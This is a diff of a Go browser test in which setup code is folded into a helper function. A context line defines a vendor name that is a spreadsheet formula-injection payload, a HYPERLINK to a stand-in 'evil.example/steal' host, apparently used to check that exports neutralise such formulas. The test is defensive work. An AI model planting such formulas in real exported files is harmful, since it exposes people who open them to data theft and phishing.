@@ -15,7 +15,6 @@ import (
 	"strconv"
 	"strings"
 	"testing"
-	"time"
 
 	cdpbrowser "github.com/chromedp/cdproto/browser"
 	"github.com/chromedp/chromedp"
@@ -37,12 +36,7 @@ const formulaVendor = `=HYPERLINK("https://evil.example/steal","Quill Payroll")`
 // whose assessment page offers no evidence file.
 func TestExportsDownloadedInBrowser(t *testing.T) {
 	chrome := apptest.Need(t, "ASSAY_TEST_CHROME")
-	started := time.Now()
-	srv := apptest.NewServer(t, apptest.Options{})
-	root, cancel := context.WithTimeout(context.Background(), testBudget)
-	t.Cleanup(cancel)
-	shots := screenshotDir(t)
-	step := func(name string) { t.Logf("%5.1fs  %s", time.Since(started).Seconds(), name) }
+	srv, root, shots, step := begin(t, apptest.Options{})
 	ctx := apptest.Ctx()
 
 	step("1. a vendor whose name is a formula has answered weakly, uploaded a policy and submitted")
